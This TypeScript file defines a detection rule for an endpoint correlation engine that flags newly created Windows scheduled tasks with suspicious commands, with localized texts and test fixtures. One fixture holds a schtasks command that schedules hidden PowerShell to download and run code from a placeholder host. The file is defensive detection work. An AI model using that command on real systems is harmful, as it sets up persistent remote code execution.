import { programOf } from '../command-line.ts'
import { COMMAND_SIGN_TEXTS, judgeCommand } from '../command-signs.ts'
import { fileOn, proofOf, scheduledTask } from '../drafts.ts'
import { exampleEvent } from '../example.ts'
import { weighFresh } from '../fresh-programs.ts'
import type { ProcessFact } from '../process-index.ts'
import { startedAround } from '../started-around.ts'
import type { DetectionDraft, EntityDraft, Find, RelationDraft, Rule } from '../rule.ts'
import { isInSystemFolder } from '../system-folders.ts'
import type { CorrelationView } from '../view.ts'

/** The task scheduler or the Security log reports the task. */
const REPORTED = 0.97
/** A command that creates a task of that name ran right before. */
const BY_COMMAND = 0.92
/** The command was seen, the task's own record was not (auditing off): it may have failed. */
const COMMAND_ALONE = 0.75
const COMMAND_WINDOW_US = 10_000_000
const CREATE = /\bschtasks(?:\.exe)?"?\s.*\/create\b|register-scheduledtask\b|new-scheduledtask\b/i
const NAME = /\/tn\s+(?:"([^"]{1,250})"|(\S{1,250}))|-taskname\s+(?:["']([^"']{1,250})["']|(\S{1,250}))/i
const COMMAND = /\/tr\s+(?:"([^"]{1,1000})"|'([^']{1,1000})'|(\S{1,1000}))/i

const rule: Rule = {
  id: 'persistence.task',
  order: 32,
  relations: ['created-task', 'located-on'],
  detections: ['odd_task'],
  scope: 'endpoint',
  attack: ['T1053.005'],
  texts: {
    en: {
      title: 'Created scheduled tasks',
      description:
        'A scheduled task was created on an endpoint, with the process that ordered it. Where no record of the task exists, the command that creates it is taken.',
      needs: 'Security 4698, the task scheduler log (106), or command lines of schtasks and PowerShell.',
      falsePositives:
        'Installers and updaters create tasks. A command alone does not prove that the task came about. A detection is made only where the command of the task is odd; administrators schedule scripts as well, which weigh little unless they hide.',
      'detection.odd_task': 'A scheduled task with an odd command was created',
      ...COMMAND_SIGN_TEXTS.en,
      'reason.created': 'The endpoint reported the new task; it runs {command}.',
      'reason.command': '{program} ran a command that creates this task right before it appeared.',
      'reason.command_alone':
        '{program} ran a command that creates this task; the task itself was not recorded.',
      'reason.image_host': 'A task of this endpoint is set to run this file.',
    },
    'zh-TW': {
      title: '建立的排程工作',
      description:
        '端點上建立了排程工作，並列出下達命令的處理程序。若沒有工作本身的紀錄，則以建立工作的命令為準。',
      needs: '安全性 4698、工作排程器記錄（106），或 schtasks 與 PowerShell 的命令列。',
      falsePositives:
        '安裝程式與更新程式也會建立工作。僅有命令並不能證明工作確實建立。僅在工作的命令異常時才列為偵測結果；管理員也會排程指令碼，除非刻意隱藏，否則嚴重性不高。',
      'detection.odd_task': '建立了命令可疑的排程工作',
      ...COMMAND_SIGN_TEXTS['zh-TW'],
      'reason.created': '端點回報新工作，執行 {command}。',
      'reason.command': '{program} 在此工作出現前執行了建立該工作的命令。',
      'reason.command_alone': '{program} 執行了建立此工作的命令，但沒有該工作本身的紀錄。',
      'reason.image_host': '此端點的排程工作設定為執行此檔案。',
    },
    ja: {
      title: '作成されたスケジュールタスク',
      description:
        'エンドポイントにスケジュールタスクが作成されました。作成を命じたプロセスも示します。タスク自体の記録がない場合は、作成コマンドを根拠とします。',
      needs:
        'セキュリティ 4698、タスクスケジューラのログ（106）、または schtasks や PowerShell のコマンドライン。',
      falsePositives:
        'インストーラーやアップデーターもタスクを作成します。コマンドだけではタスクが作成された証明になりません。検知とするのはタスクのコマンドが不審な場合だけです。管理者もスクリプトを定期実行するため、隠そうとしていない限り重くは見ません。',
      'detection.odd_task': '不審なコマンドのスケジュールタスクが作成された',
      ...COMMAND_SIGN_TEXTS.ja,
      'reason.created': 'エンドポイントが新しいタスクを報告しました。実行されるのは {command} です。',
      'reason.command': 'タスクが現れる直前に、{program} がこのタスクを作成するコマンドを実行しました。',
      'reason.command_alone':
        '{program} がこのタスクを作成するコマンドを実行しました。タスク自体の記録はありません。',
      'reason.image_host': 'このエンドポイントのタスクがこのファイルを実行するよう設定されています。',
    },
  },
  matches: [
    {
      title: 'a task in the Security log, ordered by schtasks',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\schtasks.exe',
          pid: 5,
          commandLine: 'schtasks /create /tn \\Lumen\\Host /tr C:\\ProgramData\\h.exe /sc onlogon',
        }),
        exampleEvent('task-create', 1, { target: '\\Lumen\\Host', detail: 'C:\\ProgramData\\h.exe' }),
      ],
      finds: [
        'created-task: WS-01 -> \\Lumen\\Host',
        'created-task: schtasks.exe -> \\Lumen\\Host',
        'located-on: h.exe -> WS-01',
        '!odd_task: \\Lumen\\Host',
      ],
    },
    {
      title: 'a command without any record of the task',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\schtasks.exe',
          pid: 5,
          commandLine: 'schtasks.exe /Create /SC DAILY /TN "Daily check" /TR calc',
        }),
      ],
      finds: ['created-task: schtasks.exe -> \\Daily check'],
    },
    {
      title: 'a hidden PowerShell as a task, seen as a command only',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\schtasks.exe',
          pid: 5,
          commandLine:
            'schtasks /create /sc minute /tn Sync /tr "powershell -w hidden -c iex (irm https://cdn.example.net/a)"',
        }),
      ],
      finds: ['!odd_task: \\Sync'],
    },
  ],
  ignores: [
    {
      title: 'tasks that run, change or are asked for, and one created on another machine',
      items: [
        exampleEvent('task-run', 0, { target: '\\Lumen\\Host' }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\schtasks.exe',
          pid: 5,
          commandLine: 'schtasks /query /tn \\Lumen\\Host',
        }),
        exampleEvent('process-start', 2, {
          processPath: 'C:\\Windows\\System32\\schtasks.exe',
          pid: 6,
          commandLine: 'schtasks /create /s FS01 /tn x /tr calc',
        }),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<Find> {
    const reported = new Set<ProcessFact>()
    for (const event of view.events(['task-create'], ['target', 'detail'])) {
      const { target, detail } = event.fields
      if (event.endpointId === null || target === undefined) continue
      const host = view.entity(event.endpointId)
      const to = scheduledTask(host, rooted(target), detail)
      const proof = proofOf(event)
      yield {
        kind: 'created-task',
        from: event.endpointId,
        to,
        at: event.at,
        confidence: REPORTED,
        reason: 'created',
        params: { command: (detail ?? '?').slice(0, 300) },
        proof,
      }
      const odd = oddTask(view, to, target, detail, event.endpointId, event.at, proof, 1)
      if (odd) yield odd
      const image = detail === undefined ? undefined : programOf(detail)
      if (image !== undefined && !isInSystemFolder(image))
        yield {
          kind: 'located-on',
          from: fileOn(host, image),
          to: event.endpointId,
          at: event.at,
          confidence: 0.85,
          reason: 'image_host',
          proof,
        }
      for (const process of orderedBy(view, event.endpointId, target, event.at)) {
        reported.add(process)
        const own = process.event ? proofOf(process.event) : []
        yield {
          kind: 'created-task',
          from: process.draft,
          to,
          at: event.at,
          confidence: BY_COMMAND,
          reason: 'command',
          params: { program: process.draft.name },
          proof: [...own, ...proof],
        }
      }
    }
    for (const process of view.processes.started) {
      const name = process.event && !reported.has(process) ? createdTask(process) : undefined
      if (name === undefined || !process.event || /\s\/s\s/i.test(process.commandLine)) continue
      const command = COMMAND.exec(process.commandLine)
        ?.slice(1)
        .find((part) => part !== undefined)
      const to = scheduledTask(view.entity(process.endpointId), rooted(name), command)
      yield {
        kind: 'created-task',
        from: process.draft,
        to,
        at: process.startAt,
        confidence: COMMAND_ALONE,
        reason: 'command_alone',
        params: { program: process.draft.name },
        proof: proofOf(process.event),
      }
      const own = proofOf(process.event)
      const odd = oddTask(view, to, name, command, process.endpointId, process.startAt, own, COMMAND_ALONE)
      if (odd) yield odd
    }
  },
}
export default rule

/** What is odd about the command of a task. A script alone is what administrators schedule, unless its window is hidden. */
function oddTask(
  view: CorrelationView,
  subject: EntityDraft,
  name: string,
  command: string | undefined,
  endpointId: number,
  at: number | null,
  proof: RelationDraft['proof'],
  sure: number,
): DetectionDraft | undefined {
  const plain = command === undefined ? undefined : judgeCommand(command)
  const judged = weighFresh(view, endpointId, at, command, plain)
  if (command === undefined || !judged) return undefined
  const isPlainScript = judged.sign === 'script' && !/\s-w(?:in\w*)?\s+(?:h\w*|1)\b/i.test(command)
  return {
    detection: 'odd_task',
    level: isPlainScript ? 'low' : judged.level,
    subject,
    involved: [endpointId],
    at,
    confidence: Math.round(judged.confidence * sure * 100) / 100,
    reason: `sign_${judged.sign}`,
    params: { name, command: command.slice(0, 300) },
    proof,
  }
}

/** Records write `\Folder\Name`, commands often leave the first backslash out. */
const rooted = (name: string): string => (name.startsWith('\\') ? name : `\\${name}`)

/** Name of the task a command line creates. Shells that pass the command on are not meant: only the one that does it. */
function createdTask(process: ProcessFact): string | undefined {
  if (!CREATE.test(process.commandLine) || /\\cmd\.exe$/i.test(process.path)) return undefined
  return NAME.exec(process.commandLine)
    ?.slice(1)
    .find((part) => part !== undefined)
}

function orderedBy(
  view: CorrelationView,
  endpointId: number,
  task: string,
  at: number | null,
): ProcessFact[] {
  if (at === null) return []
  const wanted = rooted(task).toLowerCase()
  return startedAround(view, endpointId, at - COMMAND_WINDOW_US, at).filter((process) => {
    const name = createdTask(process)
    return name !== undefined && rooted(name).toLowerCase() === wanted
  })
}
